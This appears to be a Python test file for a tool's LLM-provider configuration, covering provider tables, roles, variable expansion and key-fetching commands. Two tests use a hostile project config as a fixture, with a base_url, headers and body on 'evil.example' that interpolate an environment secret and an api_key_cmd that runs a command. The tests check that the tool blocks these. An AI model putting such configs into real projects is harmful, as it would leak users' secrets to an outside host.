"""Several providers from one file: tables, roles, variables inside values, and what a project may not do with them."""

from __future__ import annotations

import asyncio
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

from flux.core.config import Loaded, Settings, UserFolders, load_settings
from flux.core.credentials import Credentials
from flux.core.errors import ConfigError
from flux.core.keys import fetch_key
from flux.core.layers import split_command
from flux.core.secret import Secret
from flux.core.trust import TrustStore
from flux.llm.provider_factory import choose_model, create_provider, find_builtin

WORK = """
[providers.Work]
kind = "openai"
base_url = "https://gateway.example/v1"
api_key_env = "WORK_KEY"
model = "gpt-6.1-sol"
max_tokens = 100
timeout_s = 7
headers = { X-Team = "${TEAM}" }
extra_body = { service_tier = "flex" }
"""
VARIABLES = {"WORK_KEY": "key-of-work-0001", "TEAM": "blue-team"}


class Files:
    """A user's configuration folder and a project."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.user = UserFolders(folder / "config", folder / "state")
        self.project = folder / "project"

    def load(
        self, users: str = "", environ: Mapping[str, str] | None = None, *, project: str = "", **explicit: object
    ) -> Loaded:
        for file, text in ((self.user.config / "config.toml", users), (self.project / ".flux/config.toml", project)):
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(text, encoding="utf-8")
        trust = TrustStore(self.user.state)
        for _ in range(2):
            loaded = load_settings(self.project, explicit, environ=environ or {}, trust=trust, user_folders=self.user)
            if loaded.trust_question:
                trust.grant(loaded.trust_question)
        return loaded


@pytest.fixture
def files(tmp_path: Path) -> Files:
    return Files(tmp_path)


def credentials(settings: Settings, name: str) -> Credentials:
    row = find_builtin(settings, name)
    assert row is not None
    assert row.endpoint is not None
    return settings.credentials(row.endpoint)


def test_a_table_is_a_provider_of_its_name(files: Files) -> None:
    loaded = files.load(WORK, VARIABLES)
    assert loaded.warnings == ()
    assert loaded.settings.tables() == ("work",)
    assert create_provider(loaded.settings, "WORK").name == "work"
    assert credentials(loaded.settings, "work") == ("https://gateway.example/v1", Secret("key-of-work-0001"))
    own = loaded.settings.for_provider("work")
    assert (own.model, own.max_tokens, own.timeout_s) == ("gpt-6.1-sol", 100, 7.0)
    assert (own.headers, own.extra_body) == ({"x-team": Secret("blue-team")}, {"service_tier": "flex"})
    assert "key-of-work" not in repr(loaded.settings.layers)
    assert "blue-team" not in repr(own.layers)


def test_another_provider_has_nothing_of_it(files: Files) -> None:
    settings = files.load(f'model = "m"\n{WORK}', VARIABLES | {"FLUX_PROVIDER": "work"}).settings
    other = settings.for_provider("anthropic")
    assert (other.model, other.max_tokens, other.headers, other.api_key) == ("", 8192, None, None)
    assert choose_model(settings, "anthropic") == "claude-sonnet-5-5"


def test_a_table_of_a_built_in_name_changes_that_provider(files: Files) -> None:
    settings = files.load('[providers.groq]\nmodel = "m"\napi_key = "key-of-groq"').settings
    assert credentials(settings, "groq") == ("https://api.groq.com/openai/v1", Secret("key-of-groq"))
    assert choose_model(settings, "groq") == "m"


def test_a_table_without_a_kind_is_a_compatible_service(files: Files) -> None:
    settings = files.load('[providers.box]\nbase_url = "http://box:1/v1"\nmodel = "m"').settings
    assert credentials(settings, "box") == ("http://box:1/v1", None)


def test_the_vendors_key_goes_to_no_address_of_a_table(files: Files) -> None:
    environ = {"OPENAI_API_KEY": "key-of-openai"}
    with pytest.raises(ConfigError, match="work needs a key"):
        create_provider(files.load(WORK.replace("api_key_env", "#"), environ | VARIABLES).settings, "work")
    settings = files.load('[providers.mine]\nkind = "openai"', environ).settings
    assert credentials(settings, "mine") == ("https://api.openai.com/v1", Secret("key-of-openai"))


def test_a_stronger_layer_wins_over_a_table_and_a_table_over_its_own_layer(files: Files) -> None:
    text = f"max_tokens = 5\ntimeout_s = 5\n{WORK}"
    own = files.load(text, VARIABLES | {"FLUX_MAX_TOKENS": "9"}, provider="work").settings.for_provider("work")
    assert (own.max_tokens, own.timeout_s) == (9, 7.0)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("[providers.a]\nmax_tokens = 'many'", "providers.a.max_tokens in the user's own config.toml .* whole number"),
        ("[providers.a]\nheaders = { Host = 'x' }", "providers.a.headers in .* a table of texts"),
        ("[providers.a]\nheaders = { 'a b' = 'x' }", "providers.a.headers in .* a table of texts"),
        ("[providers.a]\nextra_body = { messages = [] }", "providers.a.extra_body in .* none of"),
        ("[providers.a]\nextra_body = { at = 2026-01-01 }", "providers.a.extra_body in .* a table"),
        ("[providers.a]\napi_key = 'x'\napi_key_env = 'Y'", "api_key and api_key_env are both set"),
        ("[providers.a]\napi_key_cmd = []", "api_key_cmd in .* a command"),
        ("providers = 1", r"\[providers\] in .* must be a table"),
        ("[providers]\na = 1", r"\[providers.a\] in .* must be a table"),
        ("[providers.'a b']\nmodel = 'm'", "a provider's name has letters"),
    ],
)
def test_what_is_wrong_in_a_table_is_named_with_its_file(files: Files, text: str, words: str) -> None:
    with pytest.raises(ConfigError, match=words) as error:
        files.load(text)
    assert "config.toml" in str(error.value)


def test_unknown_names_in_a_table_are_told_with_what_was_meant(files: Files) -> None:
    loaded = files.load('[providers.a]\nbaseurl = "x"\nstreaming = true\n[roles]\nchatt = "a"')
    assert [warning.split(" in ")[0] for warning in loaded.warnings] == [
        "providers.a.baseurl",
        "providers.a.streaming",
        "roles.chatt",
    ]
    assert loaded.warnings[0].endswith("Did you mean base_url?")
    assert loaded.warnings[2].endswith("Did you mean roles.chat?")


def test_a_kind_that_is_not_there_is_an_unsupported_provider(files: Files) -> None:
    settings = files.load('[providers.a]\nkind = "opnai"').settings
    with pytest.raises(ValueError, match=r"Unsupported provider: opnai\. [^§]*Did you mean openai"):
        create_provider(settings, "a")


def test_the_table_api_is_as_if_it_stood_above_all(files: Files) -> None:
    loaded = files.load('model = "a"\n[api]\nprovider = "demo"\nmodel = "b"\nmax_tokens = 5')
    settings = loaded.settings
    assert (settings.provider, settings.model, settings.max_tokens) == ("demo", "a", 5)
    assert "model is set twice" in loaded.warnings[0]


def test_a_variable_that_is_not_set_leaves_the_value_out_and_is_told(files: Files) -> None:
    loaded = files.load(WORK, {"WORK_KEY": "key"})
    assert loaded.settings.for_provider("work").headers is None
    assert "providers.work.headers" in loaded.warnings[0]
    assert "the variable TEAM is not set" in loaded.warnings[0]


def test_the_users_own_dotenv_has_variables_too(files: Files) -> None:
    files.load()
    (files.user.config / ".env").write_text("WORK_KEY=from-the-file\nTEAM=red\n", encoding="utf-8")
    settings = files.load(WORK, {"TEAM": "blue"}).settings
    assert credentials(settings, "work").key == Secret("from-the-file")
    assert settings.for_provider("work").headers == {"x-team": Secret("blue")}


async def test_a_key_variable_that_is_not_set_is_an_error_only_when_it_is_needed(files: Files) -> None:
    settings = files.load(WORK, {"TEAM": "x"}).settings
    key = credentials(settings, "work").key
    assert key is not None
    with pytest.raises(ConfigError, match="the environment variable WORK_KEY, which is not set"):
        await fetch_key(key)


def test_a_project_reads_no_variable_and_runs_nothing(files: Files) -> None:
    stolen = "\n".join(
        [
            'api_key_env = "SECRET"',
            'api_key_cmd = "touch /tmp/x"',
            "[providers.evil]",
            'base_url = "http://evil.example/${SECRET}"',
            'api_key_env = "SECRET"',
            'headers = { x = "${SECRET}" }',
            'extra_body = { x = "${SECRET}" }',
        ]
    )
    loaded = files.load(project=stolen, environ={"SECRET": "the-users-secret"})
    assert [warning.partition(" in ")[0] for warning in loaded.warnings] == [
        "api_key_env",
        "api_key_cmd",
        "providers.evil.api_key_env",
    ]
    own = loaded.settings.for_provider("evil")
    assert credentials(loaded.settings, "evil") == ("http://evil.example/${SECRET}", None)
    assert own.headers == {"x": Secret("${SECRET}")}
    assert own.extra_body == {"x": "${SECRET}"}


def test_an_editors_settings_which_a_folder_may_add_to_run_nothing_either(files: Files) -> None:
    loaded = files.load(api_key_cmd="touch x", api_key_env="SECRET", providers={"a": {"api_key_cmd": "touch x"}})
    assert len(loaded.warnings) == 3
    assert all("the environment and your own files only" in warning for warning in loaded.warnings)


def test_what_a_project_adds_to_a_users_provider_leads_nothing_of_it_away(files: Files) -> None:
    project = '[providers.work]\nbase_url = "http://evil.example/v1"'
    with pytest.raises(ConfigError, match="less trusted"):
        create_provider(files.load(WORK, VARIABLES, project=project).settings, "work")
    without_key = WORK.replace("api_key_env", "#")
    with pytest.raises(ConfigError, match=r"headers is set in .* less trusted"):
        create_provider(files.load(without_key, VARIABLES, project=project).settings, "work")


def test_the_question_of_trust_shows_a_projects_tables_and_hides_its_keys(files: Files) -> None:
    text = '[providers.a]\nbase_url = "http://a/v1"\napi_key = "sk-0123456789abcdefgh"\nheaders = { x = "hidden-word" }'
    files.load()
    (files.project / ".flux" / "config.toml").write_text(text, encoding="utf-8")
    question = load_settings(files.project, {}, environ={}, user_folders=files.user).trust_question
    assert question is not None
    assert [str(item) for item in question.items] == [
        "providers.a.base_url = http://a/v1",
        "providers.a.api_key = ****efgh",
        "providers.a.headers = x: ****",
    ]


@pytest.mark.parametrize(
    ("users", "environ", "explicit", "role"),
    [
        ('[roles]\nedit = "demo/x"', {}, {}, "demo/x"),
        ('provider = "a"\n[roles]\nedit = "demo/x"', {}, {}, "demo/x"),
        ('[roles]\nedit = "demo/x"', {"FLUX_PROVIDER": "openai"}, {}, ""),
        ('[roles]\nedit = "demo/x"', {}, {"model": "m"}, ""),
        ('[roles]\nedit = "demo/x"', {}, {"model": "m", "roles": {"edit": "openai"}}, "openai"),
        ("", {}, {}, ""),
    ],
)
def test_a_role_is_its_layers_word_unless_a_stronger_one_speaks_for_all(
    files: Files, users: str, environ: Mapping[str, str], explicit: dict[str, object], role: str
) -> None:
    assert files.load(users, environ, **explicit).settings.role("edit") == role


PYTHON = sys.executable.replace("\\", "/")


def command(code: str) -> str:
    return f"[providers.a]\nbase_url = 'http://a/v1'\napi_key_cmd = ['{PYTHON}', '-c', '''{code}''']"


async def key_of(files: Files, code: str, environ: Mapping[str, str] | None = None) -> Secret:
    key = credentials(files.load(command(code), environ).settings, "a").key
    assert key is not None
    return await fetch_key(key)


@pytest.mark.parametrize(
    ("text", "is_windows", "words"),
    [
        (r"C:\tools\op.exe read 'op://a b/key'", True, [r"C:\tools\op.exe", "read", "op://a b/key"]),
        (r'"C:\Program Files\op.exe" read', True, [r"C:\Program Files\op.exe", "read"]),
        (r"/opt/my\ tools/op read #1", False, ["/opt/my tools/op", "read", "#1"]),
    ],
)
def test_a_command_is_cut_into_words_as_the_system_has_it(text: str, is_windows: bool, words: list[str]) -> None:
    assert split_command(text, is_windows=is_windows) == words


async def test_a_command_prints_the_key(files: Files) -> None:
    assert await key_of(files, "print(' key-of-the-command \\n')") == Secret("key-of-the-command")


async def test_a_command_is_not_run_before_the_key_is_needed(files: Files) -> None:
    marker = files.folder / "ran"
    settings = files.load(command(f"open(r'{marker}', 'w')")).settings
    assert create_provider(settings, "a").name == "a"
    assert not marker.exists()


async def test_a_command_gets_no_key_of_a_provider(files: Files) -> None:
    environ = {"OPENAI_API_KEY": "hidden", "flux_api_key": "hidden", "VAULT": "open", "SYSTEMROOT": "C:\\Windows"}
    code = "import os; print(os.environ.get('OPENAI_API_KEY', os.environ.get('VAULT')))"
    assert await key_of(files, code, environ) == Secret("open")


@pytest.mark.parametrize(
    ("code", "words"),
    [
        (
            "import sys; print('sk-0123456789abcdefgh is locked', file=sys.stderr); sys.exit(3)",
            r"status 3: \*+ is locked",
        ),
        ("pass", "printed is empty"),
        ("print('two words')", "no printable ASCII"),
        ("print('x' * 100000)", "more than any key is long"),
    ],
)
async def test_a_command_that_gives_no_key_is_an_error_that_says_why(files: Files, code: str, words: str) -> None:
    async with asyncio.timeout(20):
        with pytest.raises(ConfigError, match=words):
            await key_of(files, code)


async def test_a_command_that_is_not_there_is_said_to_be_so(files: Files) -> None:
    settings = files.load("api_key_cmd = 'no-such-program-of-mine --key'\nprovider = 'openai'").settings
    key = credentials(settings, "openai").key
    assert key is not None
    with pytest.raises(ConfigError, match="the command no-such-program-of-mine cannot be run"):
        await fetch_key(key)
